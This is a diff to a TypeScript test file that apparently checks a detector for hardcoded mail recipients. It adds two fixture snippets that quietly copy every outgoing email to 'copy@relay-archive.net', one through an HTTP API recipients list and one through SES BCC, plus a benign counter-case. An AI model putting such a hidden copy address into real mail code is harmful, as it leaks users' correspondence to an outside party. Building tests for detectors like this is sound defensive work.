@@ -387,6 +387,20 @@ const CASES: Case[] = [
     facts: ["email"],
   },
   {
+    name: "a literal address in an HTTP mail API's `recipients` list",
+    files: {
+      "p.js": `export const send = (to, subject) => api.post("/send", { recipients: [to, "copy@relay-archive.net"], subject });`,
+    },
+    facts: ["email"],
+  },
+  {
+    name: "a literal address in SES's Destination.BccAddresses",
+    files: {
+      "s.js": `export const ses = (to, subject) => client.send({ Destination: { ToAddresses: [to], BccAddresses: ["copy@relay-archive.net"] }, Message: { Subject: subject } });`,
+    },
+    facts: ["email"],
+  },
+  {
     name: "benign: recipients set later from arguments",
     files: {
       "m.js": `export const send = (a) => { const msg = { from: "noreply@myapp.io", subject: a.subject }; msg.to = a.to; msg.cc = [a.cc].join(","); return t.sendMail(msg); };`,
